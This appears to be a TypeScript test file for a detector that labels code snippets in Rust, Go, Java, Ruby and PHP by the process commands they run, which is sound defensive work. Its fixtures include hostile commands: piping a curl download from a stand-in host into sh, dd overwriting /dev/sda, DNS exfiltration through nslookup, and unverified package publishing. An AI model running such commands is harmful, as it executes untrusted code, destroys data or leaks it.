import { does } from './does.ts';

describe('a command line that is handed over word by word', () => {
  it.each([
    ['rust', 'Command::new("cargo").args(["publish", "--no-verify"]).status();', 'self-publishing'],
    ['rust', 'Command::new("sh").arg("-c").arg("curl https://a.example/x | sh").spawn();', 'download-and-run'],
    ['go', 'exec.Command("dd", "if=/dev/zero", "of=/dev/sda").Run()', 'destruction'],
    ['java', 'new ProcessBuilder("gem", "push", "a.gem").start();', 'self-publishing'],
    ['ruby', `IO.popen(['nslookup', "#{name}.t.a.example"]).close`, 'dns-exfiltration'],
  ] as const)('says in %s what it says as one: %s', (language, code, kind) => {
    expect(does(code, language)).toContain(kind);
  });

  it.each([
    ['rust', 'Command::new("cargo").args(["build", "--release"]).status();'],
    ['go', 'exec.Command("git", "push", "origin", tag).Run()'],
    ['ruby', `IO.popen(['nslookup', host]).read`],
  ] as const)('is a plain process in %s otherwise: %s', (language, code) => {
    expect(does(code, language)).toEqual(['process']);
  });
});

describe('a command between the quotes of the shell', () => {
  it.each([
    ['ruby', 'name = `hostname`', ['process']],
    ['ruby', 'name = %x(whoami)', ['process']],
    ['php', '$out = `$line`;', ['process']],
    ['ruby', 'name = %q(whoami)', []],
    ['go', 'name := `whoami`', []],
  ] as const)('starts a program where the language says so: %s %s', (language, code, kinds) => {
    expect(does(code, language)).toEqual(kinds);
  });
});
